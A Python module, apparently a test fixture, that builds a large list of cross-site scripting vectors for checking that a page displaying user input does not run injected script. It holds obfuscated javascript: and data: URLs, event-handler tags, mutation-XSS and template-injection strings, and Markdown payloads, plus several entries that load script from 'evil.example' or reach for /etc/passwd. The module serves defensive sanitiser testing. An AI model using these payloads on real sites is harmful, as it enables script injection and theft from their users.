"""Texts by which somebody could try to get a script of theirs into a page: each would call `alarm` if it did.

The classes are those that are known from published work on cross-site scripting; the texts are our own. A new place that
shows what people write takes all of them: `VECTORS`, or `LINKS` where it takes an address.
"""

# Addresses that run something, and the ways to hide their scheme: letters, entities, what browsers strip, what they decode.
LINKS = [
    *(scheme + "alarm(1)" for scheme in (
        "javascript:", "JaVaScRiPt:", "java\tscript:", "java&#9;script:", "java&Tab;script:", "java&#10;script:",
        "java&NewLine;script:", "java&#13;script:", "javascript&colon;", "javascript&#58;", "javascript&#x3A;",
        "javascript&#0000058", "&#106;avascript:", "&#x6A;avascript:", "&#x6a&#x61vascript:", "&#32;javascript:", "&#1;javascript:",
        "&#xA0;javascript:", "\u00a0javascript:", "\u2028javascript:", "javascript\u200b:", "java\u00adscript:", "ｊavascript:",
        "java%0ascript:", "javascript%3A", "javascript://%0a", "javascript://example.org/%0a", "javascript:/*\u2028*/", "java\\script:",
        "javascript\\:", "\\javascript:", "feed:javascript:", "view-source:javascript:", "jar:javascript:", "https:javascript:",
        "x:javascript:", "livescript:", "mocha:", "vbscript:", "VBScript:", "vb&Tab;script:", "javascript\u0301:", "javascript:\u0301",
        "?javascript:", "#javascript:", "./javascript:", "//javascript:", "javascript:\"+", "javascript:'>",
    )),
    *("data:" + kind for kind in (
        "text/html,<script>alarm(1)</script>", "text/html;base64,PHNjcmlwdD5hbGFybSgxKTwvc2NyaXB0Pg==", ",<script>alarm(1)</script>",
        "image/svg+xml,<svg onload=alarm(1)>", "image/svg+xml;utf8,<svg/onload=alarm(1)>", "text/javascript,alarm(1)",
        "application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alarm(1)</x:script>", "&#10;text/html,x",
    )),
    "DATA:text/html,<script>alarm(1)</script>", "da&Tab;ta:text/html,<script>alarm(1)</script>", "blob:https://example.org/1",
    "filesystem:https://example.org/1", "file:///etc/passwd", "intent:#Intent;end", "about:blank", "ms-settings:", "//evil.example/a.js",
    "\\\\evil.example\\a", "/\\evil.example/a", "https://a.example/\"onmouseover=\"alarm(1)", "https://a.example/'onmouseover='alarm(1)",
    "https://a.example/\"\u0301onmouseover=alarm(1)", "https://a.example/<script>alarm(1)</script>", "mailto:a@b.c\"onclick=\"alarm(1)",
]  # fmt: skip

# What ends the place in which a text stands.
BREAKERS = [
    "", '"', "'", '">', "'>", "`>", "-->", "--!>", "]]>", "?>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>",
    "</template>", "</svg>", "</math>", "</a>", "</code></pre>", "\\\">", '"\u0301>', '"\u200d>', "*/",
]  # fmt: skip

# Elements that run something by themselves or when they are looked at.
TAGS = [
    "<script>alarm(1)</script>", "<img src=x onerror=alarm(1)>", "<svg onload=alarm(1)>", "<iframe srcdoc='<script>parent.alarm(1)</script>'>",
    "<details open ontoggle=alarm(1)>x", "<input autofocus onfocus=alarm(1)>", "<math href=javascript:alarm(1)>x", "<style onload=alarm(1)></style>",
]  # fmt: skip

OTHER_TAGS = [
    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>", "<script\n>alarm(1)</script\n>", "<script/x>alarm(1)</script>", "<scr<script>ipt>alarm(1)</script>",
    "<<script>alarm(1)//<</script>", "<script>alarm(1)", "<svg><script>alarm(1)</script></svg>", "<svg><script href=data:,alarm(1) />",
    "<svg><animate onbegin=alarm(1) attributeName=x dur=1s>", "<svg><a><animate attributeName=href values=javascript:alarm(1) /><text>x</text></a>",
    "<svg><set attributeName=onload to=alarm(1)>", "<svg><use href='data:image/svg+xml,<svg id=x><a/></svg>#x'>", "<svg><foreignObject><body onload=alarm(1)>",
    "<svg><style>{font-family:'<img/src=x onerror=alarm(1)>'}", "<math><mtext><img src=x onerror=alarm(1)></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alarm(1)>x", "<img src=x:x onerror=alarm(1)//", "<img/src=x/onerror=alarm(1)>",
    "<img src=x onerror\n=\nalarm(1)>", "<img src=x onerror=&#97;larm(1)>", "<img src=`x`onerror=alarm(1)>", "<img srcset='x 1x' onerror=alarm(1)>",
    "<IMG SRC=javascript:alarm(1)>", "<image src=x onerror=alarm(1)>", "<body onload=alarm(1)>", "<body onpageshow=alarm(1)>",
    "<video><source onerror=alarm(1)></video>", "<video src=x onerror=alarm(1)>", "<audio src onloadstart=alarm(1)>", "<video poster=javascript:alarm(1)>",
    "<object data=javascript:alarm(1)>", "<object data='data:text/html,<script>alarm(1)</script>'>", "<embed src=javascript:alarm(1)>",
    "<iframe src=javascript:alarm(1)>", "<iframe src='data:text/html,<script>alarm(1)</script>'>", "<frameset onload=alarm(1)>",
    "<form action=javascript:alarm(1)><button>x</button></form>", "<button formaction=javascript:alarm(1)>x", "<isindex action=javascript:alarm(1)>",
    "<a href=javascript:alarm(1)>x</a>", "<a href='jav&#x09;ascript:alarm(1)'>x</a>", "<base href=//evil.example/>", "<base href=javascript:alarm(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alarm(1)'>", "<meta http-equiv=refresh content='0;url=data:text/html,x'>",
    "<link rel=stylesheet href=//evil.example/a.css>", "<link rel=import href=data:text/html,x>", "<style>@import '//evil.example/a.css'</style>",
    "<style>*{background:url(javascript:alarm(1))}</style>", "<div style=width:expression(alarm(1))>", "<div style=background:url(javascript:alarm(1))>",
    "<p onmouseover=alarm(1)>x", "<p onclick=alarm(1)>x", "<p/onpointerrawupdate=alarm(1)>x", "<x onfocus=alarm(1) tabindex=0 autofocus>x",
    "<x contenteditable onblur=alarm(1)>x", "<marquee onstart=alarm(1)>x", "<select autofocus onfocus=alarm(1)>", "<textarea autofocus onfocus=alarm(1)>",
    "<keygen autofocus onfocus=alarm(1)>", "<dialog open onclose=alarm(1)>", "<div popover id=x onbeforetoggle=alarm(1)>", "<template><script>alarm(1)</script></template>",
    "<template shadowrootmode=open><script>alarm(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alarm(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alarm(1)>'>", "<plaintext><script>alarm(1)</script>", "<!--[if true]><script>alarm(1)</script><![endif]-->",
    "<!--><script>alarm(1)</script>-->", "<!---!><script>alarm(1)</script>", "<?xml version='1.0'?><script>alarm(1)</script>",
    "<![CDATA[<script>alarm(1)</script>]]>", "<!DOCTYPE x [<!ENTITY y '<script>alarm(1)</script>'>]>&y;", "<%<script>alarm(1)</script>%>",
    "<clock-picker onclick=alarm(1) value='<img src=x onerror=alarm(1)>'>", "<script type=module>import 'data:text/javascript,alarm(1)'</script>",
    "<script type=importmap>{\"imports\":{\"a\":\"data:text/javascript,alarm(1)\"}}</script>", "<script type=speculationrules>{}</script>",
]  # fmt: skip

# What one parser takes for text and the next one, which reads what the first has written, for elements.
MUTATIONS = [
    "<svg></p><style><a id=\"</style><img src=1 onerror=alarm(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alarm(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alarm(1) src>\">", "<svg><desc><noscript></noscript></desc></svg><img src=x onerror=alarm(1)>",
    "<table><td><svg><p><style><img title='</style><img src=x onerror=alarm(1)>'>", "<select><template><img src=x onerror=alarm(1)></select>",
    "<math><annotation-xml encoding=text/html><script>alarm(1)</script>", "<svg><title><style><!--</title><img src=x onerror=alarm(1)>-->", "<a><table><a><img src=x onerror=alarm(1)>",
    "<p title=\"`\"><img alt='`onerror=alarm(1) src=x'>",
]  # fmt: skip

# The ends of attributes, strings, templates and style sheets.
ENDINGS = [
    '" onmouseover="alarm(1)', "' onmouseover='alarm(1)", '" autofocus onfocus=alarm(1) x="', '"\u0301 onclick=alarm(1) x="', '"\u200d onclick=alarm(1)',
    "'\u0301 onclick=alarm(1) x='", "` onclick=alarm(1)", "\\\" onclick=alarm(1)", "&quot; onclick=alarm(1)", "&#34; onclick=alarm(1)", "\" onclick\u0301=alarm(1)",
    "x onclick=alarm(1)", "x/onclick=alarm(1)", '";alarm(1);//', "';alarm(1);//", "\\';alarm(1);//", "\\\";alarm(1);//", "`;alarm(1);//", "${alarm(1)}", "\u2028alarm(1)//",
    "\u2029alarm(1)//", "</script><script>alarm(1)//", "<!--<script>", "<!--<script></script>", "</SCRIPT ><svg onload=alarm(1)>", "*/alarm(1)/*", "\\u003cscript\\u003ealarm(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealarm(1)", "\\u0022;alarm(1)//", "\\", "\\\\\"", "{{alarm(1)}}", "{{{alarm(1)}}}", "{{&body}}", "{{#title}}x{{/title}}", "{{> pages/page.html}}", "{{<pages/page.html}}{{/pages/page.html}}",
    "{{=<% %>=}}<%&title%>", "{{constructor.constructor('alarm(1)')()}}", "{{__proto__}}", "${{7*7}}", "#{alarm(1)}", "<%= alarm(1) %>", "{% raw %}<script>alarm(1)</script>{% endraw %}", "[[alarm(1)]]",
    "{title}", "{number}{month}{language}", "$1$&$`", "\\0\\1", "}</style><script>alarm(1)</script>", ";background:url(javascript:alarm(1))", "x{}*{background:url('javascript:alarm(1)')}", "expression(alarm(1))",
    "-moz-binding:url(//evil.example/a)", "@import url(//evil.example/a.css);", "\\3c script\\3e alarm(1)", "&lt;script&gt;alarm(1)&lt;/script&gt;", "&#60;script&#62;alarm(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alarm(1)&#x3e;", "&amp;lt;script&amp;gt;alarm(1)", "%3Cscript%3Ealarm(1)%3C/script%3E", "%253Cscript%253Ealarm(1)", "＜script＞alarm(1)＜/script＞", "+ADw-script+AD4-alarm(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealarm(1)\u00bc/script\u00be", "<\u0301script>alarm(1)</script>", "<script\u0301>alarm(1)</script>", "\u202e<script>alarm(1)</script>", "\ufeff<script>alarm(1)</script>",
    "__proto__", "constructor", "hasOwnProperty", "gnomon", "../../etc/passwd", "con", "-->", "<", "<!", "</", "&", "&#", "\"", "'", "`",
]  # fmt: skip

# Markdown that is to become an address or an attribute.
MARKDOWN = [
    "[x](javascript:alarm(1))", "[x](<javascript:alarm(1)>)", "[x](java&#9;script:alarm(1))", "[x](javascript:alarm\\(1\\))", "![x](javascript:alarm(1))", "<javascript:alarm(1)>", "<data:text/html,alarm(1)>",
    "[![x](y.png)](javascript:alarm(1))", "![a\"onerror=\"alarm(1)](p.png)", "[x](https://a.example \"t\\\" onclick=alarm(1) x=\\\"\")", "![x](p.png \"\\\" onerror=\\\"alarm(1)\")",
    "https://a.example/\"onmouseover=\"alarm(1)", "www.a.example/'onmouseover='alarm(1)", "a@b.example\"onclick=\"alarm(1)", "https://a.example/<img/src=x/onerror=alarm(1)>", "`<script>alarm(1)</script>`",
    "``\"><img src=x onerror=alarm(1)>``", "~~<img src=x onerror=alarm(1)>~~", "**<b onclick=alarm(1)>x</b>**", "\\<script>alarm(1)\\</script>", "x {#a\"onclick=\"alarm(1)}", "{value}`\"><img src=x onerror=alarm(1)>`",
]  # fmt: skip

VECTORS = [
    *(breaker + tag for breaker in BREAKERS for tag in TAGS), *OTHER_TAGS, *MUTATIONS, *ENDINGS, *MARKDOWN, *LINKS,
]  # fmt: skip
